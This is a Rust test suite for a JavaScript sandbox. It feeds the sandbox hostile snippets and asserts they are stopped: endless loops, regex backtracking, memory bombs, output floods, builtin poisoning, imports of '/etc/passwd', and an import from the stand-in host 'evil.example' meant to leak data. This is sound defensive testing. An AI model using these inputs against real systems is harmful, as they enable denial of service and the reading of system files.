//! Attacks from inside a capability, through a real worker process in the default configuration.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, clippy::print_stderr, reason = "helpers of tests")]

mod common;

use common::{permit, plan, run, run_plan, sandbox};
use jarvis_protocol::{ExecPlan, Execution, ExitClass, Limits};
use serde_json::json;
use std::time::{Duration, Instant};
use tokio_util::sync::CancellationToken;

fn limited(code: &str, limits: Limits) -> ExecPlan {
    let mut plan = plan(code, json!({}));
    plan.limits = limits;
    plan
}

const SHORT: Limits = Limits { timeout_ms: 300, memory_mb: 32, output_bytes: 10_000 };

async fn short(code: &str) -> Execution {
    let started = Instant::now();
    let done = run_plan(&sandbox(), limited(code, SHORT)).await;
    assert!(started.elapsed() < Duration::from_secs(5), "{code} took {:?}", started.elapsed());
    done
}

#[tokio::test]
async fn loops_without_end_are_stopped_at_the_limit_and_keep_what_they_printed() {
    for code in [
        "export default () => { console.log('before'); for (;;); }",
        "export default async () => { console.log('before'); for (;;) await null; }",
        "export default () => { console.log('before'); try { for (;;); } finally { for (;;); } }",
        "export default () => { console.log('before'); for (;;) { try { for (;;); } catch { } } }",
        "console.log('before'); for (;;);\nexport default () => 1",
        "export default () => { console.log('before'); return new Promise(r => setInterval(() => {}, 10)); }",
        "export default () => { console.log('before'); return new Promise(r => setTimeout(r, 1e9)); }",
        "export default () => { console.log('before'); return /^(a+)+$/.test('a'.repeat(40) + 'b'); }",
        "export default () => { console.log('before'); return { get x() { for (;;); } }; }",
        "export default () => { console.log('before'); return { toJSON() { for (;;); } }; }",
        "export default () => { console.log('before'); throw { get message() { for (;;); } }; }",
        "export default () => { console.log('before'); [1, 2].sort(() => { for (;;); }); }",
    ] {
        let done = short(code).await;
        assert_eq!(done.exit, ExitClass::Timeout, "{code}: {:?} {:?}", done.result, done.error);
        assert_eq!(done.printed, "before\n", "{code}");
        assert!(done.error.unwrap().message.contains("300 ms"));
    }
}

#[tokio::test]
async fn slow_builtins_are_stopped_too() {
    for code in [
        "export default () => { let s = 'ab'.repeat(1 << 14); for (;;) s.split('').reverse().join(''); }",
        "export default () => { const a = new Array(1e5).fill(1); for (;;) a.indexOf(2); }",
        "export default () => { for (;;) JSON.parse(JSON.stringify(Array(1000).fill({ a: [1] }))); }",
        "export default () => { for (;;) 'x'.repeat(1e5).replace(/x/g, 'yy'); }",
    ] {
        let done = short(code).await;
        assert_eq!(done.exit, ExitClass::Timeout, "{code}: {done:?}");
    }
}

/// A single call of a builtin does not look at the clock, so the worker cannot stop itself.
#[tokio::test]
async fn a_builtin_that_never_looks_up_is_killed() {
    let done = short("export default () => { console.log('before'); return String(2n ** 1000000n).length; }").await;
    assert_eq!((done.exit, done.printed.as_str()), (ExitClass::Timeout, "before\n"), "{done:?}");
    assert!(done.wall_us > 390_000, "it did not stop itself at its limit: {done:?}");
    assert!(done.cpu_us > 10_000 && done.peak_memory_kb > 0, "the kernel's report came: {done:?}");
}

#[tokio::test]
async fn memory_bombs_end_as_memory() {
    for code in [
        "export default () => { const a = []; for (;;) a.push(new Array(1000).fill(0)); }",
        "export default () => { let s = 'x'; for (;;) s += s; }",
        "export default () => { const a = []; for (;;) a.push(new Uint8Array(1 << 20)); }",
        "export default () => { const m = new Map(); for (let i = 0; ; i++) m.set(i, {}); }",
        "export default () => { const f = () => ({ f: f(), x: [] }); const a = []; for (;;) a.push({ a: [1, 2, 3] }); }",
        "export default () => 'x'.repeat(1 << 28).split('')",
        "export default () => new ArrayBuffer(1 << 30)",
        "export default async () => { const all = []; for (;;) all.push(new Promise(() => {})); }",
    ] {
        let mut plan = limited(code, SHORT);
        plan.limits.timeout_ms = 20_000;
        let done = run_plan(&sandbox(), plan).await;
        // Some are refused by the engine before there is any memory to take.
        let refused = done.error.as_ref().is_some_and(|e| e.name == "RangeError" || e.message == "string too long");
        assert!(done.exit == ExitClass::Memory || (done.exit == ExitClass::Threw && refused), "{code}: {done:?}");
        assert!(done.peak_memory_kb < 200 * 1024, "{code}: {} KiB", done.peak_memory_kb);
    }
}

#[tokio::test]
async fn a_chain_of_promises_without_end_is_stopped() {
    let code = "export default () => { const f = () => Promise.resolve().then(f); f(); return new Promise(() => {}); }";
    let mut plan = limited(code, SHORT);
    plan.limits.timeout_ms = 2_000;
    let done = run_plan(&sandbox(), plan).await;
    // Which of the two limits is met first depends on the machine.
    assert!(matches!(done.exit, ExitClass::Memory | ExitClass::Timeout), "{done:?}");
    assert!(done.peak_memory_kb < 200 * 1024, "{done:?}");
}

#[tokio::test]
async fn caught_memory_errors_do_not_lift_the_limit() {
    let code = "export default () => { const keep = []; let caught = 0; while (caught < 50) { try { for (;;) keep.push(new Array(10000).fill(0)); } catch { caught++; } } return caught; }";
    let mut plan = limited(code, SHORT);
    plan.limits.timeout_ms = 20_000;
    let done = run_plan(&sandbox(), plan).await;
    assert!(matches!(done.exit, ExitClass::Ok | ExitClass::Memory), "{done:?}");
    assert!(done.peak_memory_kb < 200 * 1024, "{done:?}");
}

#[tokio::test]
async fn deep_recursion_is_a_range_error_and_ordinary_recursion_works() {
    let sandbox = sandbox();
    let deep = run(&sandbox, "const f = (n) => f(n + 1) + 1;\nexport default () => f(0)", json!({})).await;
    assert_eq!((deep.exit, deep.error.unwrap().name.as_str()), (ExitClass::Threw, "RangeError"));
    let fine =
        run(&sandbox, "const sum = (n) => n === 0 ? 0 : n + sum(n - 1);\nexport default () => sum(9000)", json!({}))
            .await;
    assert_eq!(fine.result, Some(json!(40_504_500)), "{:?}", fine.error);
    for code in [
        "export default () => { let a = []; for (let i = 0; i < 1e5; i++) a = [a]; return JSON.stringify(a); }",
        "export default () => JSON.parse('['.repeat(1e6))",
        "export default () => new RegExp('('.repeat(1e5) + ')'.repeat(1e5)).test('x')",
        "export default () => eval('('.repeat(1e5) + '1' + ')'.repeat(1e5))",
        "export default () => { const p = new Proxy({}, { get: (t, k, r) => r[k] }); return p.x; }",
        "export default () => { let a = {}; for (let i = 0; i < 1e5; i++) a = { a }; return structuredClone(a); }",
        "export default () => { class A { toString() { return `${this}` } } return `${new A()}` }",
    ] {
        let done = run(&sandbox, code, json!({})).await;
        assert!(matches!(done.exit, ExitClass::Threw | ExitClass::Rejected), "{code}: {done:?}");
    }
}

#[tokio::test]
async fn floods_of_output_are_cut() {
    for code in [
        "export default () => { for (;;) console.log('水'.repeat(100)); }",
        "export default () => 'x'.repeat(20000)",
        "export default () => { console.log('x'.repeat(1e6)); return 1; }",
        "export default () => { console.log('x'.repeat(6000)); return 'y'.repeat(6000); }",
    ] {
        let done = short(code).await;
        assert_eq!(done.exit, ExitClass::Output, "{code}: {:?}", done.error);
        assert!(done.printed.len() <= 10_000 && !done.printed.contains('\u{fffd}'), "{code}");
        assert_eq!(done.result, None);
    }
}

#[tokio::test]
async fn a_cancelled_run_ends_soon_and_its_worker_with_it() {
    let sandbox = sandbox();
    let cancel = CancellationToken::new();
    let stop = cancel.clone();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(100)).await;
        stop.cancel();
    });
    let started = Instant::now();
    let done = sandbox
        .run(permit(plan("export default () => { console.log('on'); for (;;); }", json!({}))), &cancel)
        .await
        .unwrap();
    assert_eq!((done.exit, done.printed.as_str()), (ExitClass::Cancelled, "on\n"));
    assert!(started.elapsed() < Duration::from_secs(2));
    assert!(done.cpu_us > 0 && done.peak_memory_kb > 0, "the kernel's report on the killed worker came: {done:?}");
}

#[tokio::test]
async fn nothing_of_the_host_can_be_seen() {
    let sandbox = sandbox();
    let code = r#"export default async (args, ctx) => {
  const found = [];
  const tried = { std: () => std, os: () => os, bjson: () => bjson, scriptArgs: () => scriptArgs, loadFile: () => loadFile, __native: () => native, host: () => host };
  for (const [name, get] of Object.entries(tried)) { try { if (get() !== undefined) found.push(name); } catch { } }
  for (const specifier of ["std", "os", "fs", "/etc/passwd", "../../etc/passwd", "capability.js", "data:text/javascript,export default 1"]) {
    try { await new Function("s", "return import(s)")(specifier); if (specifier !== "capability.js") found.push(specifier); } catch { }
  }
  const names = Object.getOwnPropertyNames(globalThis);
  for (const name of names) if (/native|host|print|load|std|worker/i.test(name)) found.push(name);
  return found;
}"#;
    let done = run(&sandbox, code, json!({})).await;
    assert_eq!(done.result, Some(json!([])), "{:?}", done.error);
}

#[tokio::test]
async fn one_run_leaves_nothing_for_the_next() {
    let sandbox = sandbox();
    let spoil = "export default () => { globalThis.leak = 1; Object.prototype.leak = 2; Array.prototype.map = () => 'spoiled'; JSON.stringify = () => '0'; Promise.prototype.then = () => {}; return 1; }";
    run(&sandbox, spoil, json!({})).await;
    let done =
        run(&sandbox, "export default () => [typeof leak, ({}).leak === undefined, [1].map(x => x)]", json!({})).await;
    assert_eq!(done.result, Some(json!(["undefined", true, [1]])), "{:?}", done.error);
}

#[tokio::test]
async fn spoiling_the_builtins_cannot_forge_a_result() {
    let sandbox = sandbox();
    let code = "export default () => { JSON.stringify = () => '\"forged\"'; Array.isArray = () => false; Object.keys = () => []; Number.isSafeInteger = () => true; Array.prototype.push = () => 0; Array.prototype.join = () => '\"forged\"'; return { list: [1, 2], text: 'x' }; }";
    let done = run(&sandbox, code, json!({})).await;
    assert_eq!(done.result, Some(json!({"list": [1, 2], "text": "x"})), "{:?}", done.error);
}

#[tokio::test]
async fn imports_are_refused_before_anything_runs() {
    let sandbox = sandbox();
    for code in [
        "import '/etc/passwd'; export default () => 1",
        "import x from 'https://evil.example/?leak'; export default () => x",
        "export default async () => await import('/etc/passwd')",
    ] {
        let done = run(&sandbox, code, json!({})).await;
        assert_eq!(done.exit, ExitClass::Rejected, "{code}");
        assert!(done.isolation.is_empty(), "no worker was needed");
    }
}

#[tokio::test]
async fn without_a_worker_there_is_an_error_and_no_run() {
    let config = jarvis_sandbox::SandboxConfig { worker_exe: "/nonexistent/jarvis".into(), pool: 1, max_workers: 1 };
    let outcome = jarvis_sandbox::Executor::new(config, jarvis_sandbox::Access::default())
        .run(permit(plan("export default () => 1", json!({}))), &CancellationToken::new())
        .await;
    assert!(matches!(outcome, Err(jarvis_sandbox::SandboxError::Start { .. })), "{outcome:?}");
    let config = jarvis_sandbox::SandboxConfig { worker_exe: "/bin/true".into(), pool: 1, max_workers: 1 };
    let outcome = jarvis_sandbox::Executor::new(config, jarvis_sandbox::Access::default())
        .run(permit(plan("export default () => 1", json!({}))), &CancellationToken::new())
        .await;
    assert!(matches!(outcome, Err(jarvis_sandbox::SandboxError::Start { .. })), "{outcome:?}");
}

/// Every way out is tried by a real worker after its lockdown, and by one without the system-call filter.
#[test]
fn a_worker_that_tries_to_break_out_fails() {
    let layers = jarvis_sandbox::probe_with(std::path::Path::new(env!("CARGO_BIN_EXE_jarvis-worker-test")));
    for layer in &layers {
        eprintln!("{:32} {:5} {}", layer.name, layer.in_force, layer.detail);
    }
    let attempts: Vec<_> = layers.iter().filter(|l| l.name.starts_with("cannot ")).collect();
    assert_eq!(attempts.len(), 14);
    for layer in attempts {
        assert!(layer.in_force && layer.detail.contains("with seccomp: killed"), "{layer:?}");
    }
    for name in ["open a file", "list the root", "reach the network", "run a program", "trace another process", "mount"]
    {
        let layer = layers.iter().find(|l| l.name == format!("cannot {name}")).unwrap();
        let (_, bare) = layer.detail.split_once("without it and limits: ").unwrap();
        // An error of the kernel: not a success, and not an attempt that was never made.
        assert!(bare.contains("(os error "), "a second layer holds too: {layer:?}");
    }
}
